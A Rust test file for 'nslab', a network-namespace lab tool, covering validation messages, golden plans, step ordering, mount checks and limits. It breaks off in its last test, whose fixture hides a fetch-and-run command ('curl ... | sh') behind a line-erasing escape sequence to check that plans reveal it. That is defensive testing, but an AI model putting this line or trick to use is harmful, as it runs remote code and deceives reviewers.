//! Compile tests (no root): the invalid-input corpus, golden plans and graphs of every
//! example, determinism, and the plan's structure.

use std::path::{Path, PathBuf};
use std::process::Command;

use nslab::draw::{self, Format};
use nslab::{CompileError, compile_str, plan};

mod support;

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn yaml_files(dir: &str) -> Vec<PathBuf> {
    let mut files: Vec<PathBuf> = std::fs::read_dir(root().join(dir))
        .expect("directory exists")
        .map(|e| e.expect("entry").path())
        .filter(|p| p.extension().is_some_and(|e| e == "yaml"))
        .collect();
    files.sort();
    files
}

/// Relative path, so messages (and goldens) do not depend on where the repo lives.
fn rel(p: &Path) -> PathBuf {
    p.strip_prefix(root())
        .expect("inside the repo")
        .to_path_buf()
}

/// Compiles with the repo-relative name in messages, without touching the process cwd.
fn compile_rel(p: &Path) -> Result<nslab::Compiled, CompileError> {
    let text = std::fs::read_to_string(p).expect("readable");
    compile_str(&text, &rel(p).display().to_string(), p.parent().unwrap())
}

#[test]
fn every_invalid_file_reports_its_expected_messages() {
    let files = yaml_files("tests/invalid");
    assert!(
        files.len() >= 16,
        "one file per bad-input class, found {}",
        files.len()
    );
    for f in files {
        let text = std::fs::read_to_string(&f).unwrap();
        let expects: Vec<&str> = text
            .lines()
            .filter_map(|l| l.strip_prefix("# expect: "))
            .collect();
        assert!(!expects.is_empty(), "{}: no `# expect:` lines", f.display());
        let report = match compile_rel(&f) {
            Ok(_) => panic!("{} compiled but must fail", f.display()),
            Err(CompileError::Invalid(r)) => r.to_string(),
            Err(e) => panic!("{}: unexpected error {e}", f.display()),
        };
        for e in expects {
            assert!(
                report.contains(e),
                "{}: missing `{e}` in:\n{report}",
                f.display()
            );
        }
    }
}

#[test]
fn invalid_input_exits_3_with_located_errors_on_stderr() {
    let out = Command::new(env!("CARGO_BIN_EXE_nslab"))
        .current_dir(root())
        .args(["validate", "tests/invalid/many-errors.yaml"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(3));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("tests/invalid/many-errors.yaml:14:15"),
        "{stderr}"
    );
    assert!(stderr.contains("4 errors"), "{stderr}");
    assert!(out.stdout.is_empty());
}

/// A native file's warning (a daemonset that matches no node) is printed by `validate`
/// as by `plan`, also when `validate` then fails on what only it checks (a mount source
/// missing on this host).
#[test]
fn validate_prints_the_warnings_plan_prints_even_beside_an_error() {
    let dir = std::env::temp_dir().join(format!("nslab-vwarn-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("t.yaml");
    let body = |mount: &str| {
        format!(
            "name: vwarn\nnodes:\n  a: {{ labels: {{ role: edge }}, mounts: [{{ source: {mount}, target: /mnt/x }}] }}\ndaemonsets:\n  - {{ name: probe, selector: {{ role: core }}, cmd: \"sleep 60\" }}\n"
        )
    };
    let run = |cmd: &str| {
        Command::new(env!("CARGO_BIN_EXE_nslab"))
            .arg(cmd)
            .arg(&file)
            .output()
            .unwrap()
    };
    let warning = "warning: daemonset `probe` matches no node (selector role=core)";
    std::fs::write(&file, body(dir.to_str().unwrap())).unwrap();
    for cmd in ["validate", "plan"] {
        let o = run(cmd);
        let stderr = String::from_utf8_lossy(&o.stderr);
        assert_eq!(o.status.code(), Some(0), "{cmd}: {stderr}");
        assert!(stderr.contains(warning), "{cmd}: {stderr}");
    }
    std::fs::write(&file, body("./nosuch-source")).unwrap();
    let o = run("plan");
    assert_eq!(o.status.code(), Some(0));
    let o = run("validate");
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(3), "{stderr}");
    assert!(stderr.contains(warning), "{stderr}");
    assert!(
        stderr.contains("the source of mount `/mnt/x` does not exist"),
        "{stderr}"
    );
    assert!(stderr.contains("t.yaml: 1 error"), "{stderr}");
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn valid_examples_exit_0() {
    for f in yaml_files("topologies") {
        let out = Command::new(env!("CARGO_BIN_EXE_nslab"))
            .current_dir(root())
            .arg("validate")
            .arg(rel(&f))
            .output()
            .unwrap();
        assert_eq!(
            out.status.code(),
            Some(0),
            "{}: {}",
            f.display(),
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

/// Compares against tests/golden/<name>; `UPDATE_GOLDEN=1` rewrites the files. Paths
/// into the checkout (mount sources) read as `$REPO`, wherever the checkout is.
fn golden(name: &str, actual: &str) {
    let replaced = actual.replace(&root().display().to_string(), "$REPO");
    let actual = replaced.as_str();
    let path = root().join("tests/golden").join(name);
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        std::fs::write(&path, actual).unwrap();
        return;
    }
    let expected = std::fs::read_to_string(&path).unwrap_or_else(|_| {
        panic!(
            "missing golden {}; run with UPDATE_GOLDEN=1",
            path.display()
        )
    });
    assert!(
        expected == actual,
        "{name} differs from its golden file; diff it or rerun with UPDATE_GOLDEN=1\n{actual}"
    );
}

#[test]
fn plans_and_graphs_match_their_goldens() {
    let files = yaml_files("topologies");
    assert!(files.len() >= 6);
    for f in files {
        let stem = f.file_stem().unwrap().to_string_lossy().to_string();
        let c = compile_rel(&f).unwrap_or_else(|e| panic!("{}: {e}", f.display()));
        let p = plan::plan(&c.topology);
        golden(&format!("{stem}.plan.txt"), &plan::render_text(&p));
        golden(&format!("{stem}.plan.json"), &(p.to_json() + "\n"));
        // A running lab keeps its plan as this JSON: it reads back to the same plan.
        let back: plan::Plan = serde_json::from_str(&p.to_json()).expect("the plan reads back");
        assert_eq!(
            back.to_json(),
            p.to_json(),
            "{stem}: the plan JSON round trip"
        );
        golden(&format!("{stem}.teardown.txt"), &plan::teardown_text(&p));
        golden(
            &format!("{stem}.dot"),
            &draw::render(&c.topology, Format::Dot),
        );
        golden(
            &format!("{stem}.mmd"),
            &draw::render(&c.topology, Format::Mermaid),
        );
        golden(
            &format!("{stem}.svg"),
            &draw::render(&c.topology, Format::Svg),
        );
        golden(
            &format!("{stem}.drawio"),
            &draw::render(&c.topology, Format::Drawio),
        );
    }
}

#[test]
fn compiling_twice_gives_byte_identical_plans() {
    for f in yaml_files("topologies") {
        let a = plan::plan(&compile_rel(&f).unwrap().topology).to_json();
        let b = plan::plan(&compile_rel(&f).unwrap().topology).to_json();
        assert_eq!(a, b, "{}", f.display());
        // Separate processes get different hash seeds; the output must not care.
        let run = || {
            Command::new(env!("CARGO_BIN_EXE_nslab"))
                .current_dir(root())
                .args(["plan", "--json"])
                .arg(rel(&f))
                .output()
                .unwrap()
                .stdout
        };
        let (x, y) = (run(), run());
        assert_eq!(x, y, "{}", f.display());
        assert_eq!(String::from_utf8(x).unwrap(), a + "\n");
    }
}

#[test]
fn step_ids_ascend_in_a_valid_order() {
    for f in yaml_files("topologies") {
        let p = plan::plan(&compile_rel(&f).unwrap().topology);
        for (i, s) in p.steps.iter().enumerate() {
            assert_eq!(s.id, i + 1);
            for d in &s.deps {
                assert!(
                    *d < s.id,
                    "{}: step {} waits for later step {d}",
                    f.display(),
                    s.id
                );
            }
        }
        // Deleting a namespace removes every link, address and route in it; only nodes,
        // namespaces, cgroups and mounts are undone, in the phases `down` runs: nodes,
        // then namespaces, then cgroups and mounts.
        let teardown = p.teardown();
        let netns = p
            .steps
            .iter()
            .filter(|s| s.op.name() == "create-netns")
            .count();
        let kinds: Vec<&str> = teardown
            .in_order()
            .map(|u| match u {
                nslab::plan::Undo::DeleteNetns { .. } => "netns",
                nslab::plan::Undo::StopNode { .. } => "node",
                nslab::plan::Undo::RemoveCgroup { .. } => "cgroup",
                nslab::plan::Undo::RemoveMountTemplate { .. } => "template",
                nslab::plan::Undo::UnmountRunDirs { .. } => "run-dirs",
                // What a lab makes on the host (`mgmt:`, host links) is deleted there,
                // before the namespaces.
                nslab::plan::Undo::DeleteLink { netns, .. }
                | nslab::plan::Undo::DeleteAddress { netns, .. }
                    if &**netns == "@host" =>
                {
                    "host"
                }
                other => panic!("{}: {other:?} should die with its namespace", f.display()),
            })
            .collect();
        assert_eq!(kinds.iter().filter(|k| **k == "netns").count(), netns);
        let first_netns = kinds.iter().position(|k| *k == "netns").unwrap();
        let last_netns = kinds.iter().rposition(|k| *k == "netns").unwrap();
        assert!(
            kinds[..first_netns]
                .iter()
                .all(|k| *k == "node" || *k == "host")
                && kinds[first_netns..=last_netns]
                    .iter()
                    .all(|k| *k == "netns")
                && kinds[last_netns + 1..].iter().all(|k| *k != "node"),
            "{}: nodes, then namespaces, then cgroups and mounts: {kinds:?}",
            f.display()
        );
    }
}

/// Every step a step waits for, directly or not.
fn ancestors(p: &nslab::Plan) -> Vec<std::collections::BTreeSet<usize>> {
    let mut all: Vec<std::collections::BTreeSet<usize>> = vec![Default::default()];
    for s in &p.steps {
        let mut a = std::collections::BTreeSet::new();
        for d in &s.deps {
            a.insert(*d);
            a.extend(all[*d].iter().copied());
        }
        all.push(a);
    }
    all
}

#[test]
fn bridges_come_up_after_the_rest_of_the_wiring_and_processes_after_the_bridges() {
    // Two bridges and nodes with inits: the case with a barrier before each.
    let two = "name: two-br\nbridges:\n  lan1: {}\n  lan2: {}\nnodes:\n  a: { processes: [{ name: s, cmd: 'sleep 100' }] }\n  b: {}\n  c: { routes: [{ to: default, via: b }] }\nlinks:\n  - [a, lan1]\n  - [b, lan1]\n  - [b, lan2]\n  - [c, lan2]\n  - [a, c]\n";
    let mut plans: Vec<(String, nslab::Plan)> = yaml_files("topologies")
        .iter()
        .map(|f| {
            let t = compile_rel(f).unwrap().topology;
            (f.display().to_string(), plan::plan(&t))
        })
        .collect();
    let t = compile_str(two, "two-br.yaml", &root()).unwrap().topology;
    plans.push(("two-br".into(), plan::plan(&t)));
    let mut bridged = 0;
    let mut overlapped = 0;
    for (f, p) in &plans {
        let before = ancestors(p);
        let bridge_names: Vec<String> = p
            .steps
            .iter()
            .filter_map(|s| match &s.op {
                // The lab's bridges; a management bridge is on the host, up once made.
                nslab::plan::Op::CreateBridge { name, netns, .. } if &**netns != "@host" => {
                    Some(name.to_string())
                }
                _ => None,
            })
            .collect();
        let is_bridge_step = |op: &nslab::plan::Op| match op {
            nslab::plan::Op::SetLinkUp { name, netns, .. } => {
                netns.starts_with("nslab.")
                    && netns.matches('.').count() == 1
                    && bridge_names.contains(&name.to_string())
            }
            nslab::plan::Op::SetMulticastSnooping { .. } => true,
            _ => false,
        };
        let runtime = |name: &str| {
            matches!(
                name,
                "mount-run-dirs"
                    | "write-hosts"
                    | "create-mount-template"
                    | "create-cgroup"
                    | "start-node"
                    | "start-process"
                    | "run-exec"
            )
        };
        let ups: Vec<&nslab::plan::Step> = p
            .steps
            .iter()
            .filter(|s| matches!(s.op, nslab::plan::Op::SetLinkUp { .. }) && is_bridge_step(&s.op))
            .collect();
        assert_eq!(ups.len(), bridge_names.len(), "{f}: one up per bridge");
        bridged += usize::from(!ups.is_empty());
        // `later` waits, directly or not, for every step `earlier` picks.
        let waits = |later: &nslab::plan::Step, earlier: &dyn Fn(&nslab::plan::Step) -> bool| {
            for s in p.steps.iter().filter(|s| earlier(s)) {
                assert!(
                    before[later.id].contains(&s.id),
                    "{f}: {} (step {}) does not wait for step {} ({})",
                    later.op.name(),
                    later.id,
                    s.id,
                    s.op.name()
                );
            }
        };
        for up in &ups {
            waits(up, &|s| {
                !is_bridge_step(&s.op) && !runtime(s.op.name()) && s.op.name() != "barrier"
            });
        }
        // Processes and `exec:` commands find all of the wiring in place.
        for run in p
            .steps
            .iter()
            .filter(|s| matches!(s.op.name(), "start-process" | "run-exec"))
        {
            waits(run, &|s| !runtime(s.op.name()));
        }
        // An init needs only its own namespace: it starts while the rest is wired.
        for start in p.steps.iter().filter(|s| s.op.name() == "start-node") {
            let nslab::plan::Op::StartNode { netns, .. } = &start.op else {
                unreachable!()
            };
            waits(
                start,
                &|s| matches!(&s.op, nslab::plan::Op::CreateNetns { netns: n } if n == netns),
            );
            let wiring = p.steps.iter().filter(|s| {
                !runtime(s.op.name()) && !matches!(s.op, nslab::plan::Op::CreateNetns { .. })
            });
            overlapped += usize::from(wiring.clone().any(|s| !before[start.id].contains(&s.id)));
        }
    }
    assert!(bridged >= 3, "plans with bridges checked: {bridged}");
    assert!(
        overlapped >= 10,
        "inits that start before the wiring is done: {overlapped}"
    );
}

#[test]
fn host_checks_name_the_node_and_the_key() {
    let yaml = "name: pre\nnodes:\n  r1:\n    mounts: ['configs/{node}/missing.conf:/etc/x.conf']\n    processes:\n      - { name: d, cmd: 'no-such-program-nslab --flag' }\n      - { name: ok, cmd: 'sh -c true' }\n";
    let c = compile_str(yaml, "pre.yaml", Path::new("/nonexistent-base"))
        .expect("the pure compile accepts it");
    let report = match nslab::preflight(c) {
        Ok(_) => panic!("the host checks must fail"),
        Err(CompileError::Invalid(r)) => r.to_string(),
        Err(e) => panic!("{e}"),
    };
    assert!(report.contains("node `r1`: the source of mount `/etc/x.conf` does not exist: /nonexistent-base/configs/r1/missing.conf"), "{report}");
    assert!(report.contains("pre.yaml:4:14"), "{report}");
    assert!(
        report.contains("node `r1`: process `cmd` of `d` cannot be found: `no-such-program-nslab`"),
        "{report}"
    );
    assert!(report.contains("pre.yaml:6:25"), "{report}");
    assert!(!report.contains("`ok`"), "sh is found: {report}");
}

#[test]
fn validate_refuses_targets_below_a_symlink_or_a_missing_dir_in_a_mount_source() {
    // No root: the checks only read the host. The link points at a directory the test
    // owns; validate must name it and where it points, at each target that goes through it.
    let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("mx-validate");
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("cfg/real/ok")).unwrap();
    std::fs::create_dir_all(dir.join("victim")).unwrap();
    std::os::unix::fs::symlink(dir.join("victim"), dir.join("cfg/link")).unwrap();
    std::fs::write(dir.join("f.conf"), "").unwrap();
    let yaml = "name: mx-validate\nnodes:\n  a:\n    mounts:\n      - cfg:/etc/mx-v:ro\n      - { source: f.conf, target: /etc/mx-v/link/f.conf }\n      - f.conf:/etc/mx-v/real/ok/in-private.conf\n    private:\n      - /etc/mx-v/link/sub\n      - /etc/mx-v/real/ok\n      - /etc/mx-v/gone/sub\n";
    std::fs::write(dir.join("t.yaml"), yaml).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_nslab"))
        .current_dir(&dir)
        .args(["validate", "t.yaml"])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{stderr}");
    let link = format!(
        "and that mount's source has a symlink on the way: `{}` -> `{}`",
        dir.join("cfg/link").display(),
        dir.join("victim").display()
    );
    for (what, at) in [
        ("mount target `/etc/mx-v/link/f.conf`", "t.yaml:6:35"),
        ("private directory `/etc/mx-v/link/sub`", "t.yaml:9:9"),
    ] {
        let e = format!("node `a`: {what} lies below mount target `/etc/mx-v`, {link}");
        assert!(stderr.contains(&e), "`{e}` missing from: {stderr}");
        assert!(stderr.contains(at), "{at}: {stderr}");
    }
    assert!(
        stderr.contains("hint: nslab follows no symlink inside a mount source"),
        "{stderr}"
    );
    // Nothing is created inside a source either, so a missing directory is an error too.
    assert!(
        stderr.contains(&format!(
            "node `a`: private directory `/etc/mx-v/gone/sub` lies below mount target `/etc/mx-v`, but `{}` does not exist in that mount's source",
            dir.join("cfg/gone").display()
        )),
        "{stderr}"
    );
    assert!(stderr.contains("t.yaml:11:9"), "{stderr}");
    // A real directory is fine, and a file bound inside a private directory there lies
    // in the node's own tmpfs, not in the source.
    assert!(!stderr.contains("real/ok"), "{stderr}");
    assert!(stderr.contains("3 errors"), "{stderr}");
    assert_eq!(std::fs::read_dir(dir.join("victim")).unwrap().count(), 0);
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn a_file_that_is_not_utf8_is_located_at_its_first_invalid_byte() {
    let dir = std::env::temp_dir().join(format!("nslab-fx-utf8-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("latin1.yaml");
    // Line 3, after `  h1: { env: { CITY: M` (22 characters): a Latin-1 `ü`.
    std::fs::write(
        &file,
        b"name: latin\nnodes:\n  h1: { env: { CITY: M\xfcnchen } }\n",
    )
    .unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_nslab"))
        .arg("validate")
        .arg(&file)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{stderr}");
    assert!(stderr.contains("not UTF-8"), "{stderr}");
    assert!(stderr.contains("byte 0xfc"), "{stderr}");
    assert!(
        stderr.contains(&format!("{}:3:23", file.display())),
        "{stderr}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn usage_errors_exit_3_and_help_exits_0() {
    let run = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_nslab"))
            .args(args)
            .output()
            .unwrap()
    };
    // Exit 2 is "the lab could not come up"; a bad command line is invalid input.
    for args in [
        &["up"][..],
        &["frobnicate"],
        &["up", "x.yaml", "--no-such-flag"],
        &["up", "x.yaml", "--jobs", "many"],
        &[],
    ] {
        let o = run(args);
        assert_eq!(
            o.status.code(),
            Some(3),
            "nslab {args:?}: {}",
            String::from_utf8_lossy(&o.stderr)
        );
        assert!(!o.stderr.is_empty(), "nslab {args:?} says why");
    }
    for args in [&["--help"][..], &["--version"], &["exec", "--help"]] {
        let o = run(args);
        assert_eq!(o.status.code(), Some(0), "nslab {args:?}");
        assert!(!o.stdout.is_empty());
    }
    // `exec -e` is documented in its help.
    let help = String::from_utf8_lossy(&run(&["exec", "--help"]).stdout).into_owned();
    assert!(help.contains("--env <KEY=VALUE>"), "{help}");
}

/// YAML ends a line at `\r` too: the position the parser gives and the line shown must
/// be the same one (old Mac line ends, found by the fuzzer's invariants).
#[test]
fn a_file_with_cr_line_ends_shows_the_offending_line() {
    let src = "name: cr\rnodes:\r  a: {}\r  b: { bogus: 1 }\r";
    let Err(CompileError::Invalid(r)) = compile_str(src, "cr.yaml", Path::new("/")) else {
        panic!("must fail");
    };
    let text = r.to_string();
    assert!(text.contains("--> cr.yaml:4:8"), "{text}");
    assert!(text.contains("4 |   b: { bogus: 1 }"), "{text}");
}

/// A fresh directory for a validate test, under `base`, and a topology in it.
fn validate_in(dir: &std::path::Path, yaml: &str, path: Option<&str>) -> (Option<i32>, String) {
    std::fs::write(dir.join("t.yaml"), yaml).unwrap();
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_nslab"));
    cmd.current_dir(dir).args(["validate", "t.yaml"]);
    if let Some(p) = path {
        cmd.env("PATH", p);
    }
    let out = cmd.output().unwrap();
    (
        out.status.code(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn executable_at(path: &std::path::Path) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, "#!/bin/sh\n").unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// Programs are looked up as the node sees them: its own PATH, not the caller's; its
/// /tmp, /run and /var/run and `private:` directories empty; bind mounts bringing files in.
#[test]
fn validate_checks_programs_as_the_node_will_see_them() {
    let tmp = std::env::temp_dir().join(format!("bg-prog-{}", std::process::id()));
    let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("bg-prog");
    let _ = std::fs::remove_dir_all(&dir);
    let _ = std::fs::remove_dir_all(&tmp);
    executable_at(&tmp.join("tool"));
    executable_at(&dir.join("bin/bg-only-mine"));
    let t = tmp.display();
    let yaml = format!(
        "name: bg-prog
nodes:
  hidden:
    processes: [{{ name: p, cmd: {t}/tool }}]
  mounted:
    mounts: [\"{t}:/opt/bg-tools:ro\"]
    processes: [{{ name: p, cmd: /opt/bg-tools/tool }}]
  over-tmp:
    mounts: [\"{t}:{t}:ro\"]
    processes: [{{ name: p, cmd: {t}/tool }}]
  mine:
    processes: [{{ name: p, cmd: [bg-only-mine] }}]
  no-mnt:
    isolation: [net]
    processes: [{{ name: p, cmd: {t}/tool }}]
"
    );
    let caller_path = format!("{}:/usr/bin:/bin", dir.join("bin").display());
    let (code, stderr) = validate_in(&dir, &yaml, Some(&caller_path));
    assert_eq!(code, Some(3), "{stderr}");
    assert!(
        stderr.contains(&format!("node `hidden`: process `cmd` of `p` cannot be found: `{t}/tool` is on the host, but not in the node: /tmp is the node's own empty tmpfs")),
        "{stderr}"
    );
    assert!(stderr.contains("t.yaml:4:33"), "{stderr}");
    assert!(stderr.contains("hint: bind-mount it in"), "{stderr}");
    assert!(
        stderr.contains("node `mine`: process `cmd` of `p` cannot be found: `bg-only-mine` is not an executable on the node's PATH (/usr/local/sbin:"),
        "{stderr}"
    );
    assert!(
        stderr.contains(&format!(
            "it is on your PATH as `{}`, but a node does not inherit your PATH",
            dir.join("bin/bg-only-mine").display()
        )),
        "{stderr}"
    );
    // Mounted in, bound over /tmp, or no mount namespace at all: the node sees it.
    for fine in ["`mounted`", "`over-tmp`", "`no-mnt`"] {
        assert!(!stderr.contains(fine), "{fine}: {stderr}");
    }
    assert!(stderr.contains("2 errors"), "{stderr}");
    std::fs::remove_dir_all(&tmp).unwrap();
}

/// A kind's process whose program is missing is one error naming every node of the
/// kind, not one per node.
#[test]
fn a_missing_program_of_a_kind_is_one_error_listing_its_nodes() {
    let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("bg-kind-prog");
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let mut yaml = String::from(
        "name: bg-kind\nkinds:\n  k:\n    processes: [{ name: d, cmd: bg-no-such-program }]\nnodes:\n",
    );
    for i in 1..=20 {
        yaml.push_str(&format!("  n{i}: {{ kind: k }}\n"));
    }
    yaml.push_str("  own: { processes: [{ name: d, cmd: bg-no-such-program }] }\n");
    let (code, stderr) = validate_in(&dir, &yaml, None);
    assert_eq!(code, Some(3), "{stderr}");
    assert_eq!(stderr.matches("error:").count(), 2, "{stderr}");
    assert!(
        stderr.contains("error: 20 nodes of kind `k` (`n1`, `n2`, `n3`"),
        "{stderr}"
    );
    assert!(stderr.contains("`n20`): process `cmd` of `d` cannot be found: `bg-no-such-program` is not an executable on the node's PATH"), "{stderr}");
    assert!(stderr.contains("t.yaml:4:33"), "{stderr}");
    assert!(
        stderr.contains("error: node `own`: process `cmd` of `d`"),
        "{stderr}"
    );
    assert!(stderr.contains("2 errors"), "{stderr}");
}

/// A bind target straight under `/` that the host lacks (containerlab's `/01-test.txt`)
/// validates: the node gets a new root of its own at `up`. What still cannot work is
/// refused as before: a target below a bind whose source lacks the way to it.
#[test]
fn validate_accepts_a_missing_target_directly_under_root() {
    let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("bg-root-target");
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("src")).unwrap();
    std::fs::write(dir.join("01-test.txt"), "hi\n").unwrap();
    let yaml = "name: bg-root\nnodes:\n  a:\n    mounts:\n      - 01-test.txt:/bg-01-test.txt\n      - 01-test.txt:/etc/bg-01-test.txt\n    private: [/bg-missing-dir/sub]\n";
    let (code, stderr) = validate_in(&dir, yaml, None);
    assert_eq!(code, Some(0), "{stderr}");
    let yaml = "name: bg-root\nnodes:\n  a:\n    mounts:\n      - src:/bg-src\n      - 01-test.txt:/bg-src/missing/f\n";
    let (code, stderr) = validate_in(&dir, yaml, None);
    assert_eq!(code, Some(3), "{stderr}");
    assert!(
        stderr.contains("mount target `/bg-src/missing/f` lies below mount target `/bg-src`"),
        "{stderr}"
    );
    assert!(stderr.contains("t.yaml:6:9"), "{stderr}");
}

#[test]
fn validate_reads_every_expect_json_file_and_locates_a_bad_one() {
    // No root: validate only reads the files. Paths are relative to the topology file,
    // wherever validate runs from.
    let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("ck-validate");
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("want")).unwrap();
    std::fs::write(dir.join("want/ok.json"), r#"{"a": [1]}"#).unwrap();
    std::fs::write(dir.join("want/bad.json"), "{ a: 1 }").unwrap();
    let yaml = "name: ck-validate\nnodes: { a: {}, b: {} }\ntests:\n  - cmd: { node: a, run: \"true\", expect_json_file: want/ok.json }\n  - cmd: { node: [a, b], run: \"true\", expect_json_file: want/bad.json }\n  - cmd: { node: a, run: \"true\", expect_json_file: want/gone.json, name: gone }\n";
    std::fs::write(dir.join("t.yaml"), yaml).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_nslab"))
        .current_dir(root())
        .arg("validate")
        .arg(dir.join("t.yaml"))
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{stderr}");
    let bad = format!(
        "check `2: cmd a,b: true [a]`: `expect_json_file`: {} is not JSON",
        dir.join("want/bad.json").display()
    );
    assert!(stderr.contains(&bad), "`{bad}` missing from: {stderr}");
    assert!(stderr.contains("t.yaml:5:57"), "{stderr}");
    // One error for the file of a many-node check, not one per node.
    assert_eq!(stderr.matches("is not JSON").count(), 1, "{stderr}");
    let gone = format!(
        "check `gone`: `expect_json_file`: cannot read {}",
        dir.join("want/gone.json").display()
    );
    assert!(stderr.contains(&gone), "`{gone}` missing from: {stderr}");
    assert!(!stderr.contains("ok.json"), "{stderr}");
}

/// `validate` warns about a `route` check's `vrf:` where the kernel makes no VRFs (asked
/// by making one in a namespace of its own, which needs root), naming the module, and
/// still exits 0: the lab itself is fine.
#[test]
fn validate_warns_of_a_vrf_check_on_a_kernel_without_vrfs() {
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        assert_ne!(std::env::var("CI").as_deref(), Ok("true"), "needs root");
        return;
    }
    let has_vrf = support::kernel_has_vrf();
    let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("ck-vrf-validate");
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let yaml = "name: ck-vrfv\nnodes: { a: {} }\ntests:\n  - route: { node: a, to: 10.0.0.0/24, vrf: red, name: r }\n";
    let (code, stderr) = validate_in(&dir, yaml, None);
    assert_eq!(code, Some(0), "{stderr}");
    let warning = "this kernel has no `vrf` link type, so no node can have the VRF `red`: check `r` will fail";
    assert_eq!(stderr.contains(warning), !has_vrf, "{stderr}");
    if !has_vrf {
        assert!(stderr.contains("modprobe vrf"), "{stderr}");
    }
}

/// The attributes each process starts with: `defaults`, then the kind, then the node (for
/// all its processes), then the process's own, key by key and limit by limit.
#[test]
fn process_attributes_merge_from_defaults_to_the_process() {
    let yaml = r#"
name: attrs
defaults: { rlimits: { nofile: 4096, core: unlimited }, nice: 1 }
kinds: { gen: { nice: 10, cpus: "0" } }
nodes:
  a:
    kind: gen
    oom_score_adj: 200
    processes:
      - { name: p, cmd: sleep 100, rlimits: { nofile: { soft: 1024, hard: 65536 } } }
      - { name: q, cmd: sleep 100, nice: -5, cpus: 0-1, ionice: idle }
  b: { processes: [{ name: r, cmd: sleep 100 }] }
  c: { processes: [{ name: s, cmd: sleep 100 }], nice: 0 }
"#;
    let c = compile_str(yaml, "attrs.yaml", Path::new("/")).expect("compiles");
    let p = plan::plan(&c.topology);
    let json: serde_json::Value = serde_json::from_str(&p.to_json()).unwrap();
    let procs: std::collections::BTreeMap<String, serde_json::Value> = json["steps"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|s| s["op"] == "start-node")
        .flat_map(|s| s["start"]["processes"].as_array().unwrap().clone())
        .map(|p| (p["name"].as_str().unwrap().to_string(), p["attrs"].clone()))
        .collect();
    let lim = |soft: serde_json::Value, hard: serde_json::Value| serde_json::json!({ "soft": soft, "hard": hard });
    let unlimited = lim("unlimited".into(), "unlimited".into());
    assert_eq!(
        procs["p"],
        serde_json::json!({
            "rlimits": { "core": unlimited, "nofile": lim(1024.into(), 65536.into()) },
            "nice": 10, "oom_score_adj": 200, "cpus": "0",
        })
    );
    assert_eq!(
        procs["q"],
        serde_json::json!({
            "rlimits": { "core": unlimited, "nofile": lim(4096.into(), 4096.into()) },
            "nice": -5, "oom_score_adj": 200, "cpus": "0-1",
            "ionice": { "class": "idle", "level": 0 },
        })
    );
    assert_eq!(procs["r"]["nice"], 1, "{}", procs["r"]);
    assert_eq!(procs["s"]["nice"], 0, "a node's 0 replaces the default's 1");
}

/// `routing: static` computes a route per node and destination, so a small hostile file
/// (20,000 nodes in a chain: 400 million routes) would take the host's memory at
/// `validate`. Past its limit (here by one node: 2,001 nodes and 2,000 links) the file is
/// refused at its `routing:` line, before any route is computed.
#[test]
fn static_routing_past_its_limit_is_refused_at_its_line() {
    let n = 2_001;
    let mut y = String::from("name: big\nrouting: static\nnodes:\n");
    for i in 0..n {
        y.push_str(&format!("  r{i}: {{}}\n"));
    }
    y.push_str("links:\n");
    for i in 1..n {
        y.push_str(&format!("  - [r{}:e1, r{i}:e0]\n", i - 1));
    }
    let e = compile_str(&y, "big.yaml", Path::new("/")).expect_err("refused");
    let text = e.to_string();
    assert!(text.contains("big.yaml:2:10"), "{text}");
    assert!(
        text.contains(
            "would compute a route for 4002000 (node, destination) pairs, over its limit of 4000000"
        ),
        "{text}"
    );
    assert!(text.contains("1 error"), "{text}");
}

/// `nslab plan` is how a shared file is reviewed, and it prints the file's commands: an
/// escape sequence in one (`\e[2K\r` erases the line so far) showed only what followed
/// it, and a line break forged a step. Each step is one line of visible text.
#[test]
fn the_plan_shows_a_commands_escape_sequences_as_text_one_line_per_step() {
    let yaml = "name: esc\nnodes:\n  a:\n    exec: [\"curl -s http://198.51.100.7/x | sh \\e[2K\\recho hello\"]\n    processes: [{ name: p, cmd: \"sleep 1000\\n 99  run-exec  a: true\" }]\n";
